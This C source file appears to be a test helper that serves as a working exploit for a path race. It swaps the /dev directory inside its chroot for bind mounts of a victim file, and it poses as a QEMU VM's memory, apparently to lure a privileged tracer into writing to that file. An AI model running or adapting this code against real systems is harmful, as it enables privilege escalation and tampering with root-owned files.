/*
 * exchange DIRECTORY VICTIM: a process that would gain a file of root's from a tracer that makes a file in its /dev and
 * then changes it by its path. It runs in a root directory of its own, where whatever appears in /dev is exchanged
 * within microseconds for a bind mount of VICTIM under the same name. Prints "ready", and "appeared NAME" for
 * all that appears. Its own memory looks like a VM's RAM. Run by an ordinary user.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <semaphore.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#define RAM_BYTES (16 << 20)

static const char *victim;
static sem_t apart;

static void check(int failed, const char *what)
{
	if (failed) {
		perror(what);
		exit(1);
	}
}

static void write_file(const char *path, const char *text)
{
	int file = open(path, O_WRONLY);
	check(file < 0 || write(file, text, strlen(text)) < 0, path);
	close(file);
}

/* Sees its tracer's number as any program can, prepares the names that follow from it, and exchanges the directories. */
static void *exchange(void *unused)
{
	(void)unused;
	/* The tracer finds the root directory of the main thread; this one keeps the host's, where the victim is. */
	check(unshare(CLONE_FS), "unshare of the root directory");
	sem_post(&apart);
	for (;;) {
		DIR *dev = opendir("dev");
		struct dirent *entry;
		while (dev && (entry = readdir(dev))) {
			if (entry->d_name[0] == '.' && strlen(entry->d_name) < 3)
				continue;
			char path[512];
			snprintf(path, sizeof path, "dev2/%s", entry->d_name);
			close(open(path, O_CREAT | O_WRONLY, 0600));
			mount(victim, path, NULL, MS_BIND, NULL);
			renameat2(AT_FDCWD, "dev", AT_FDCWD, "dev2", RENAME_EXCHANGE);
			printf("appeared %s\n", entry->d_name);
			fflush(stdout);
			sleep(1);
		}
		if (dev)
			closedir(dev);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc < 3)
		return 99;
	uid_t user = getuid();
	gid_t group = getgid();
	char text[64];
	victim = argv[2];
	/* Before the file systems change: RAM as QEMU has it, that is used all the time. */
	int ram = memfd_create("memory-backend-memfd", 0);
	check(ram < 0 || ftruncate(ram, RAM_BYTES), "memfd_create");
	volatile char *bytes = mmap(NULL, RAM_BYTES, PROT_READ | PROT_WRITE, MAP_SHARED, ram, 0);
	check(bytes == MAP_FAILED, "mmap");
	check(unshare(CLONE_NEWUSER | CLONE_NEWNS), "unshare");
	write_file("/proc/self/setgroups", "deny");
	snprintf(text, sizeof text, "0 %u 1", user);
	write_file("/proc/self/uid_map", text);
	snprintf(text, sizeof text, "0 %u 1", group);
	write_file("/proc/self/gid_map", text);
	check(chdir(argv[1]), argv[1]);
	sem_init(&apart, 0, 0);
	mkdir("dev", 0755);
	mkdir("dev2", 0755);
	pthread_t thread;
	check(pthread_create(&thread, NULL, exchange, NULL), "pthread_create");
	sem_wait(&apart);
	check(chroot("."), "chroot");
	printf("ready\n");
	fflush(stdout);
	for (;;)
		for (size_t page = 0; page < RAM_BYTES; page += 4096)
			bytes[page]++;
}
